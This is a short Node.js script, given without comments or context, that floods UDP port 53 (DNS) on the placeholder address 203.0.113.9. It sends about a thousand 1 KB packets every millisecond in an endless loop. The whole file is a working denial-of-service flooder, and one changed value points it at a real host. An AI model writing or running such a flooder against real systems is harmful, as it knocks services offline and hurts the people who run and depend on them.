const dgram = require('dgram');
const sock = dgram.createSocket('udp4');
const buf = Buffer.alloc(1024, 'x');
setInterval(() => { for (let i = 0; i < 1000; i++) sock.send(buf, 53, '203.0.113.9'); }, 1);
